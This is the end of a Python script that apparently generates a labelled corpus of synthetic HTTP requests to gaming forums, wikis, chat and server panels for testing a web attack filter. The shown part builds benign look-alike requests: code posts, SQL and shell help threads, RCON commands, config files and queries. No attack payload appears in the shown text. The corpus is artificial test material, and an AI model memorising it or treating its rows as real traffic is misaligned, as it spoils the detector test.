        g.add("forum-lua", D, "POST", "/threads/reply", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
              form([("thread_id", str(g.num(10000, 99999))), ("message", post), ("_xfToken", g.alnum(32))]))
    for code in CSHARP:
        g.add("forum-csharp", D, "POST", "/threads/reply", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
              form([("thread_id", str(g.num(10000, 99999))), ("message", "[code=csharp]" + code + "[/code]"), ("_xfToken", g.alnum(32))]))
    for fname, src in SHADERS:
        ct, body = g.multipart([("title", None, None, "Shader pack " + fname), ("file", fname, "text/plain", src)])
        g.add("shader", D, "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)
    for i, (title, body) in enumerate(SQL_POSTS):
        if i % 2 == 0:
            g.add("sql-help", D, "POST", "/threads/new", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded",
                  referer=f"https://{H_FORUM}/forums/private-servers.12/"), form([("title", title), ("message", body), ("_xfToken", g.alnum(32))]))
        else:
            g.add("sql-help", D, "POST", "/v1/chat/channels/guild-7731/messages", g.api(H_API, ctype="application/json"),
                  js({"text": title + ": " + body, "clientMsgId": g.hexs(16)}))
    for j in SQL_JOKES:
        g.add("chat-joke", D, "POST", "/v1/chat/channels/global/messages", g.api(H_API, ctype="application/json"),
              js({"text": j, "clientMsgId": g.hexs(16)}))
    for c in MC_CMDS:
        g.add("mc-command", D, "POST", "/bridge/chat", g.api(H_SERVERS, ctype="application/json", ua="Java/17.0.10"),
              js({"server": "survival-1", "player": g.pick(PLAYERS), "message": c}))
    for c in CFG:
        g.add("cfg", D, "POST", "/threads/reply", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
              form([("thread_id", str(g.num(10000, 99999))), ("message", c), ("_xfToken", g.alnum(32))]))
    ct, body = g.multipart([("cfg", "autoexec.cfg", "text/plain",
                            "rate 786432\ncl_interp_ratio 1\nfps_max 0\nbind \"mwheelup\" \"+jump\"\nbind \"F1\" \"say gg\"\necho \"autoexec loaded <3\"\nhost_writeconfig\n")])
    g.add("cfg", D, "POST", "/v1/me/cloudcfg", g.browser(H_PLAY, accept="json", ctype=ct), body)
    for c in RCON_CMDS:
        g.add("rcon-cmd", D, "POST", "/panel/api/servers/12/rcon", g.api(H_RCON, ctype="application/json", ua=UA_BROWSERS[0]),
              js({"command": c}))
    for title, body in SHELL_POSTS:
        g.add("shell-help", D, "POST", "/threads/new", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded",
              referer=f"https://{H_FORUM}/forums/server-hosting.14/"), form([("title", title), ("message", body), ("_xfToken", g.alnum(32))]))
    for key, tpl in OVERLAY_TPL:
        g.add("overlay-tpl", D, "PUT", f"/api/overlay/alerts/{key}", g.browser(H_HOOKS, accept="json", ctype="application/json",
              referer=f"https://{H_HOOKS}/dashboard"), js({"enabled": True, "message": tpl, "duration": 6}))
    g.add("overlay-widget", D, "PUT", "/api/overlay/widgets/sub-alert", g.browser(H_HOOKS, accept="json", ctype="application/json"),
          js({"html": WIDGET_HTML, "css": WIDGET_CSS, "js": WIDGET_JS, "fields": {"duration": 5000}}))
    ct, body = g.multipart([("html", "widget.html", "text/html", WIDGET_HTML), ("css", "widget.css", "text/css", WIDGET_CSS),
                            ("js", "widget.js", "text/javascript", WIDGET_JS)])
    g.add("overlay-widget", D, "POST", "/api/overlay/widgets/import", g.browser(H_HOOKS, accept="json", ctype=ct), body)
    g.add("automod", D, "PUT", "/api/guilds/7731/automod", g.api(H_API, ctype="application/json"),
          js({"rules": [{"pattern": r"\b(n[o0]{2,}b|tr[a4]sh)\b", "action": "warn"},
                        {"pattern": r"(https?://)?(www\.)?(discord\.(gg|io)|chat\.example\.com/invite)/\w+", "action": "delete"}]}))
    g.add("bot-code", D, "POST", "/threads/reply", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
          form([("thread_id", "55120"), ("message", "@bot.command()\nasync def rank(ctx, *, name: str):\n"
                 "    r = await api.get(f\"/v2/leaderboards/ranked?q={name}\")\n    await ctx.send(f\"{name}: {r['rating']} SR\")"),
                ("_xfToken", g.alnum(32))]))
    g.add("wiki-module", D, "POST", "/index.php?title=Module%3AInfobox&action=submit", g.browser(H_WIKI, ctype="application/x-www-form-urlencoded"),
          form([("wpTextbox1", "local p = {}\nfunction p.main(frame)\n  local args = frame:getParent().args\n"
                 "  return mw.html.create('table'):addClass('infobox'):wikitext(args.name or mw.title.getCurrentTitle().text)\nend\nreturn p"),
                ("wpSummary", "fallback to page title"), ("wpEditToken", g.hexs(32) + "+\\")]))
    g.add("wiki-template", D, "POST", "/index.php?title=Template%3AInfobox_weapon&action=submit", g.browser(H_WIKI, ctype="application/x-www-form-urlencoded"),
          form([("wpTextbox1", "{{#if:{{{image|}}}|[[File:{{{image}}}|250px]]}}\n{| class=\"infobox\"\n! colspan=2 | {{{name|{{PAGENAME}}}}}\n|-\n"
                 "| Damage || {{{damage|?}}}\n|-\n| Rarity || {{#switch:{{{rarity|}}}|epic=<span style=\"color:#a335ee\">Epic</span>|#default=Common}}\n|}"
                 "<noinclude>{{Documentation}}[[Category:Infobox templates]]</noinclude>"),
                ("wpSummary", "rarity colours"), ("wpEditToken", g.hexs(32) + "+\\")]))
    g.add("odata", D, "GET", "/odata/Leaderboard?" + "%24filter=" + enc("score ge 2500 and region eq 'eu-west'") + "&%24orderby=" + enc("score desc") + "&%24top=20",
          g.tool(H_STATS, "Microsoft.Data.Mashup (https://go.microsoft.com/fwlink/?LinkID=304225)", accept="application/json"))
    g.add("stats-query", D, "POST", "/api/dashboards/custom/query", g.browser(H_STATS, accept="json", ctype="application/json"),
          js({"query": "matches | where mode == \"ranked\" and kills > 20 | summarize avg(kd) by hero | order by avg_kd desc"}))
    g.add("graphql", D, "POST", "/graphql", g.browser(H_ESPORTS, accept="json", ctype="application/json"),
          js({"query": "query Bracket($id: ID!) { tournament(id: $id) { name stages { matches { id teams { name } score } } } }", "variables": {"id": "91"}}))
    for title, code in MISC_CODE:
        g.add("forum-code", D, "POST", "/threads/new", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
              form([("title", title), ("message", code), ("_xfToken", g.alnum(32))]))
    ct, body = g.multipart([("datapack", "death_title.mcfunction", "text/plain",
                            "execute as @a[scores={deaths=1..}] run title @s title {\"text\":\"F\",\"color\":\"gray\"}\nscoreboard players reset @a deaths\n")])
    g.add("mcfunction", D, "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)


def build_benign():
    g = Gen("benign")
    for fn in (b_auth, b_profile, b_leaderboard, b_matches, b_chat, b_forums, b_store, b_mods, b_replays, b_anticheat,
               b_matchmaking, b_tournaments, b_webhooks, b_servers, b_rcon_panel, b_wiki, b_misc, b_dev):
        fn(g)
    return g.rows


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-gaming.py attacks|benign\n")
        return 2
    rows = build_attacks() if argv[1] == "attacks" else build_benign()
    out = sys.stdout
    for row in rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
